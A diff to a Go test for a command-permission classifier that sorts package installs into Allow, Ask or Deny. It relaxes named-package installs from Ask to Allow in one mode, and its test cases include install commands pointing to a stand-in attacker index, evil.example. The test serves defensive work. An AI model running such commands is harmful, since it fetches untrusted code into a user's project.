@@ -26,8 +26,8 @@ func TestBuildVerbClasses(t *testing.T) {
 		{"mix deps.get", Allow, Ask},
 		{"pnpm install --frozen-lockfile", Allow, Ask},
 		// a named package, another index or source, a URL: never by class
-		{"npm install left-pad", Ask, Ask},
-		{"pip install requests", Ask, Ask},
+		{"npm install left-pad", Allow, Ask}, // a named add: the install of a manifest change (depadd.go)
+		{"pip install requests", Allow, Ask},
 		{"pip install -r requirements.txt --index-url http://evil.example/simple", Deny, Deny},
 		{"dotnet restore --source https://evil.example/v3/index.json", Ask, Ask},
 		{"composer install --repository=https://evil.example", Ask, Ask},
